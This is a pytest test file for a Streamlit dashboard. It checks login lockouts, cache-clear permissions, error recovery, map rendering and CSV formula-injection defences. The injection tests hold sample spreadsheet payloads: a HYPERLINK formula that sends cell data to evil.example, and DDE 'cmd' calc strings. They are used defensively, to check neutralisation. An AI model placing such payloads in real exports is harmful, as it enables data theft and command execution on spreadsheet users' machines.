"""The web side of the second trust pass (issue 16): a lockout nobody can lift, a wall that heals
itself, CSV cells that never run as formulas, a wall that fits every banner, a map from
boundaries that carry only area codes, and a data-health table without "None".

AppTest here; what only a real server or a browser shows is in tests/browser/test_trust_second.py.
"""

from __future__ import annotations

import csv
import html
import json
import os
import re
import subprocess
import sys
import tomllib
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from dashboard.briefing import document
from dashboard.i18n import moment, spreadsheet_safe, spreadsheet_safe_frame
from dashboard.ingest.build import ingest
from dashboard.ingest.status import summary_table
from dashboard.settings import Settings
from dashboard.web import access, cache, cache_clearing, login_store, login_throttle
from tests.conftest import ingest_changed_fixture, serving
from tests.fixtures import build_fixture
from tests.test_web_trust import USERS, FakeClock, log_in, open_app, users_toml

REPO = Path(__file__).resolve().parents[1]
APP = REPO / "dashboard" / "app.py"
# What a spreadsheet runs as a formula (OWASP, "CSV Injection"), written out here rather than
# taken from the dashboard.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def open_page(page: str | None = None, **params) -> AppTest:
    return open_app(page, timeout=60, **params)


def rewrite_csv(path: Path, change) -> None:
    """Read a fixture CSV, let change(rows) edit its dict rows in place, write it back."""
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        fields, rows = reader.fieldnames, list(reader)
    change(rows)
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=fields)
        writer.writeheader()
        writer.writerows(rows)


# ---------------------------------------------------------------- 2. a lockout nobody can lift

def test_a_second_replica_sees_the_first_ones_failures(tmp_path):
    clock = FakeClock()
    store = tmp_path / "state" / login_store.LOGIN_STORE_NAME
    first, second = (login_throttle.LoginThrottle(clock=clock, path=store) for _ in range(2))
    for _ in range(login_throttle.PER_USER.lockout_after):
        first.failed("zhang", "10.0.0.5")
    locked = first.retry_after("zhang", "10.0.0.5")
    assert locked > 0
    # The other replica (another connection to the shared file), from another address, and a
    # restart (a new throttle on the same file): the same wait.
    assert second.retry_after("zhang", "10.0.0.6") == locked
    assert login_throttle.LoginThrottle(clock=clock, path=store).retry_after("zhang", "10.0.0.7") == locked
    second.succeeded("zhang", "10.0.0.6")
    assert first.retry_after("zhang", "10.0.0.5") == 0
    assert (store.stat().st_mode & 0o777) == 0o600  # it names users and addresses


HOLD_EVERY_SLOT = """
import sys
from pathlib import Path
from dashboard.web import login_store
slots = login_store.CheckSlots(Path(sys.argv[1]), int(sys.argv[2]))
print(*[slots.acquire() for _ in range(int(sys.argv[2]))], flush=True)
sys.stdin.readline()
"""


def test_the_cap_on_password_checks_counts_every_process_on_the_state_directory(tmp_path):
    folder, cap = tmp_path / "state" / login_store.CHECK_SLOTS_FOLDER_NAME, login_throttle.MAX_CONCURRENT_CHECKS
    other = subprocess.Popen([sys.executable, "-c", HOLD_EVERY_SLOT, str(folder), str(cap)], cwd=REPO, text=True,
                             env={**os.environ, "PYTHONPATH": str(REPO)}, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    try:
        assert other.stdout.readline().split() == ["True"] * cap  # the other process holds the cap
        slots = login_store.CheckSlots(folder, cap)
        assert not slots.acquire()
        other.stdin.write("\n")
        other.stdin.flush()
        other.wait(timeout=30)
        assert all(slots.acquire() for _ in range(cap)) and not slots.acquire()  # its slots came free
        slots.release()
        assert slots.acquire()
    finally:
        other.kill()


@pytest.fixture
def login_app(app_env, tmp_path, monkeypatch):
    """Users, and a state directory of this test's own (the login guard is kept per directory)."""
    users = tmp_path / "users.toml"
    users.write_text(users_toml(USERS))
    monkeypatch.setenv("DASHBOARD_USERS_FILE", str(users))
    monkeypatch.setenv("DASHBOARD_STATE_DIR", str(tmp_path / "state"))
    return tmp_path / "state"


THROTTLED = "登录失败次数过多"


def test_a_lockout_holds_when_every_cache_is_cleared(login_app):
    guard = access.login_guard()
    guard.throttle.clock = FakeClock()  # the guard the form uses, on a clock that does not move
    at = open_page()
    for _ in range(login_throttle.PER_USER.free_failures + 1):
        at = log_in(at, "zhang", "wrong")
    at = log_in(at, "zhang", "zhang-pw")
    assert any(THROTTLED in error.value for error in at.error)
    # What BackMsg.clear_cache does to the process (AppSession._handle_clear_cache_request).
    st.cache_data.clear()
    st.cache_resource.clear()
    at = log_in(open_page(), "zhang", "zhang-pw")
    assert any(THROTTLED in error.value for error in at.error), "the clear lifted the lockout"
    assert not at.metric


def test_only_an_admin_may_clear_the_caches(login_app, tmp_path, monkeypatch):
    may = cache_clearing.may_clear_caches
    assert may({access.USER: "ops"}) and not may({access.USER: "zhang"}) and not may({access.USER: "wall"})
    assert not may({}) and not may({access.USER: "nobody"})
    # The role the last run was given counts only without users: a logged-in user is looked up now.
    assert not may({access.ROLE_OF_LAST_RUN: "admin"})
    (tmp_path / "users.toml").write_text(users_toml({**USERS, "ops": "leader"}))
    assert not may({access.USER: "ops"})  # demoted since logging in
    (tmp_path / "users.toml").write_text("not toml [")
    assert not may({access.USER: "ops"})
    monkeypatch.delenv("DASHBOARD_USERS_FILE")
    assert may({access.ROLE_OF_LAST_RUN: "admin"})  # the operator at this machine
    assert not may({access.ROLE_OF_LAST_RUN: "screen"}) and not may({access.ROLE_OF_LAST_RUN: None}) and not may({})


# ---------------------------------------------------------------- 5. a wall that heals itself

SECRET_PATH = "/srv/secret/snapshot.duckdb"
RETRYING = "暂时无法更新，正在重试"


def html_text(at: AppTest) -> str:
    return "\n".join(str(getattr(node, "body", "")) for node in at.get("html"))


def everything_shown(at: AppTest) -> str:
    """The text of every element of the page, markdown and html alike."""
    return html_text(at) + "\n".join(str(getattr(node, "value", "")) for node in at.main)


def unreadable_snapshot(*args, **kwargs):
    raise OSError(f"IO Error: {SECRET_PATH} is not a valid DuckDB database file")


@pytest.mark.parametrize("breaks", ["export_days", "figure"])  # before the router's navigation, and in a page
def test_a_failed_run_on_a_wall_shows_the_dark_retry_panel_and_heals(app_env, monkeypatch, breaks):
    at = open_page(kiosk="1")
    assert at.metric and not at.exception
    last_good = at.session_state[cache.REFRESHED_AT]
    with monkeypatch.context() as broken:
        broken.setattr(cache, breaks, unreadable_snapshot)
        at.session_state[cache.NEXT_CHECK_AT] = None
        at.run()
        assert not at.exception, "a white error box"
        shown = html_text(at)
        assert "retry-panel" in shown and RETRYING in shown
        assert f"上次成功更新：{moment(last_good, 'zh')}" in shown
        assert SECRET_PATH not in everything_shown(at)
        # The refresh check ran in the failed run too (it sets the next check's time): registered
        # before the failure, so it will run the app again.
        assert at.session_state[cache.NEXT_CHECK_AT] is not None
        assert at.session_state[cache.RUN_FAILED] is True
    at.run()  # what the check does at its next tick, the snapshot good again
    assert at.metric and not at.exception and "retry-panel" not in html_text(at)
    assert at.session_state[cache.RUN_FAILED] is False


def test_a_wall_whose_first_run_fails_retries_too(app_env, monkeypatch):
    monkeypatch.setattr(cache, "export_days", unreadable_snapshot)
    at = open_page(kiosk="1")
    assert not at.exception and RETRYING in html_text(at)
    assert at.session_state[cache.NEXT_CHECK_AT] is not None and at.session_state[cache.RUN_FAILED] is True


def test_a_failed_run_on_a_desk_is_one_error_line_without_details(app_env, monkeypatch):
    monkeypatch.setattr(cache, "export_days", unreadable_snapshot)
    at = open_page("staff")
    assert not at.exception
    assert [error.value for error in at.error if RETRYING in error.value]
    assert SECRET_PATH not in everything_shown(at)


def test_error_boxes_carry_no_ask_google_links():
    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    assert config["client"]["showErrorLinks"] == "false"


# ---------------------------------------------------------------- 7. CSV formula injection

EVIL_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"]
EVIL_UNIT = "+86-371-1234"
EVIL_REJECT = "=1+1"  # a start time that is no time: rejected, and shown in the rejects table


def formulas_in_names(data_dir: Path) -> None:
    def change(rows):
        rows[0]["staff_name"], rows[1]["staff_name"] = EVIL_NAMES
        rows[2]["unit"] = EVIL_UNIT
        rows.append({**rows[3], "shift_id": "CP01-0106-bad", "starts_at": EVIL_REJECT})

    rewrite_csv(data_dir / "exports" / "2022-01-06" / "shifts.csv", change)


@pytest.fixture(scope="module")
def formula_snapshot(tmp_path_factory) -> Settings:
    settings, _ = ingest_changed_fixture(tmp_path_factory.mktemp("formulas"), formulas_in_names)
    return settings


@pytest.fixture
def formula_app(formula_snapshot, monkeypatch):
    with serving(formula_snapshot, monkeypatch):
        yield formula_snapshot


def text_cells(at: AppTest) -> list[str]:
    """Every text cell of every st.dataframe on the page: what its "Download as CSV" writes."""
    return [value for table in at.dataframe for column in table.value.columns
            for value in table.value[column] if isinstance(value, str)]


def test_a_formula_in_a_cell_is_neutralised_but_numbers_are_left_alone():
    for trigger in TRIGGERS:
        assert spreadsheet_safe(f"{trigger}SUM(A1)") == f"'{trigger}SUM(A1)"
    assert spreadsheet_safe("杏苑社区 =1") == "杏苑社区 =1"  # only the start makes a formula
    frame = pd.DataFrame({"name": ["-x", "ok", None], "count": pd.array([-3, 4, None], dtype="Int64"),
                          "share": [-0.5, 0.2, 0.1]})
    safe = spreadsheet_safe_frame(frame)
    assert list(safe["name"][:2]) == ["'-x", "ok"] and pd.isna(safe["name"][2])
    assert safe["count"].tolist()[:2] == [-3, 4] and str(safe["count"].dtype) == "Int64"
    assert safe["share"].tolist() == [-0.5, 0.2, 0.1]


def test_the_roster_download_holds_no_formula(formula_app):
    at = open_page("staff")
    assert not at.exception
    cells = text_cells(at)
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
    # The names are still there, shown as typed after the quote.
    for name in [*EVIL_NAMES, EVIL_UNIT]:
        assert f"'{name}" in cells, name


def test_the_rejects_download_holds_no_formula(formula_app):
    at = open_page("health")
    assert not at.exception
    cells = text_cells(at)
    assert f"'{EVIL_REJECT}" in cells
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []


def test_the_briefing_starts_no_line_with_a_formula():
    report = {"as_of": "2022-01-06", "at": "2022-01-06T12:00", "feeds": {}, "corrections": [],
              "zones_active": {}, "isolation_active": {}} | {key: None for key in (
                  "population_sealed", "samples_on_day", "positives_on_day", "current_round", "round_coverage",
                  "releases_due_next_day", "hotel_occupancy", "staff_on_duty", "posts_understaffed")}
    inputs = document.BriefingInputs(
        report=report, lang="en", area_name="=cmd|' /C calc'!A0",
        attention=[("@kind", "-2+3 at 杏苑")],
        awaiting=pd.DataFrame({"name": [EVIL_NAMES[0]], "awaiting": [1], "longest_wait_hours": [30]}),
        data_as_of=pd.Timestamp("2022-01-06 20:00"))
    page = document.to_html(inputs)
    cells = [cell for tag in ("h1", "li", "p", "title") for cell in _texts_of(page, tag)]
    assert any(EVIL_NAMES[0] in cell for cell in cells)  # the name is there...
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []  # ...and no cell starts a formula
    markdown_lines = [line.removeprefix("- ").removeprefix("# ") for line in document.briefing_markdown(inputs).splitlines()]
    assert [line for line in markdown_lines if line.lstrip("\\").startswith(TRIGGERS)] == []


def _texts_of(page: str, tag: str) -> list[str]:
    """The text of each <tag> element of the page, as a spreadsheet would take it when pasted."""
    return [html.unescape(match).strip() for match in re.findall(rf"<{tag}>(.*?)</{tag}>", page, flags=re.S)]


# ---------------------------------------------------------------- 18. data health: missing is not None

@pytest.fixture
def app_env(fixture_snapshot, monkeypatch):
    with serving(fixture_snapshot, monkeypatch):
        yield fixture_snapshot


def test_missing_counts_show_a_dash_with_its_legend_never_none_or_zero(app_env):
    # 2022-01-04 has no checkpoint log and no door visits (tests/fixtures.py).
    at = open_page("health", day="2022-01-04")
    assert not at.exception
    arrivals = at.dataframe[0]
    frame = arrivals.value.set_index("文件")
    missing = frame.loc[["卡点查验", "入户走访"], ["入库行数", "拒收行数"]]
    assert missing.isna().all(axis=None), missing  # no count, not 0...
    assert arrivals.proto.placeholder == "—"  # ...and the grid shows it as "—", not "None"
    assert any("“—”" in caption.value and "缺失" in caption.value for caption in at.caption)
    # Every table on the page shows a missing value the same way.
    assert {table.proto.placeholder for table in at.dataframe} == {"—"}


# ---------------------------------------------------------------- 17. boundaries with area codes only

STRAY_CODE = "410199999"  # a shape for an area areas.csv does not have


def boundaries_with_codes_only(data_dir: Path, stray: bool = True) -> None:
    """What a GIS office exports: each feature's area_code, no name or level; and one stray shape."""
    path = data_dir / "reference" / "boundaries.geojson"
    collection = json.loads(path.read_text(encoding="utf-8"))
    for feature in collection["features"]:
        feature["properties"] = {"area_code": feature["properties"]["area_code"]}
    if stray:
        collection["features"].append({**collection["features"][-1], "properties": {"area_code": STRAY_CODE}})
    path.write_text(json.dumps(collection, ensure_ascii=False), encoding="utf-8")


def areas_csv(data_dir: Path) -> pd.DataFrame:
    return pd.read_csv(data_dir / "reference" / "areas.csv", dtype=str)


@pytest.fixture(scope="module")
def codes_only(tmp_path_factory):
    return ingest_changed_fixture(tmp_path_factory.mktemp("codes-only"), boundaries_with_codes_only)


def test_the_ingest_names_the_shapes_that_match_no_area(codes_only):
    _, result = codes_only
    notes = [o for o in result.outcomes if o.kind == "boundaries"]
    assert len(notes) == 1 and notes[0].status == "note"
    # One stray feature of the file's features (the fixture's 1 district + streets + communities + 1).
    features = len(json.loads((codes_only[0].data_dir / "reference" / "boundaries.geojson").read_text())["features"])
    assert f"1 of {features} features" in notes[0].message and STRAY_CODE in notes[0].message
    assert STRAY_CODE in summary_table(result)


def test_an_ingest_whose_shapes_all_match_has_no_note(tmp_path):
    data_dir = build_fixture(tmp_path / "data")
    boundaries_with_codes_only(data_dir, stray=False)
    result = ingest(Settings.from_env(data_dir, tmp_path / "snapshot.duckdb"))
    assert result.ok and not [o for o in result.outcomes if o.kind == "boundaries"]


def deck_layers(at: AppTest) -> dict[str, dict]:
    decks = at.get("deck_gl_json_chart")
    assert decks, "no map on the page"
    return {layer["id"]: layer for layer in json.loads(decks[0].proto.json)["layers"]}


@pytest.mark.parametrize("page", ["overview", "isolation", "staff"])
def test_the_map_takes_names_and_levels_from_areas_csv(codes_only, monkeypatch, page):
    settings, _ = codes_only
    areas = areas_csv(settings.data_dir)
    communities = dict(areas.loc[areas["level"] == "community", ["area_code", "name"]].itertuples(index=False))
    streets = set(areas.loc[areas["level"] == "street", "area_code"])
    with serving(settings, monkeypatch):
        at = open_page(page)
    assert not at.exception
    layers = deck_layers(at)
    assert layers["communities"]["@@type"] == "GeoJsonLayer"  # outlines, not the dots drawn without them
    drawn = {f["properties"]["area_code"]: f["properties"]["name"] for f in layers["communities"]["data"]["features"]}
    assert drawn == communities
    assert {f["properties"]["area_code"] for f in layers["streets"]["data"]["features"]} == streets
    assert [f["properties"]["area_code"] for f in layers["district"]["data"]["features"]] == \
        sorted(set(areas.loc[areas["level"] == "street", "parent_code"]))
    # The stray shape is not drawn, and the page says so, naming it.
    assert any("1 个图形未画出" in caption.value and STRAY_CODE in caption.value for caption in at.caption)


def test_a_map_without_usable_outlines_says_why(tmp_path, monkeypatch):
    data_dir = build_fixture(tmp_path / "data")
    (data_dir / "reference" / "boundaries.geojson").unlink()
    settings = Settings.from_env(data_dir, tmp_path / "snapshot.duckdb")
    assert ingest(settings).ok
    with serving(settings, monkeypatch):
        at = open_page("isolation")
    assert not at.exception
    assert deck_layers(at)["communities"]["@@type"] == "ScatterplotLayer"  # the dots
    assert any("没有可用的区划边界" in caption.value for caption in at.caption)
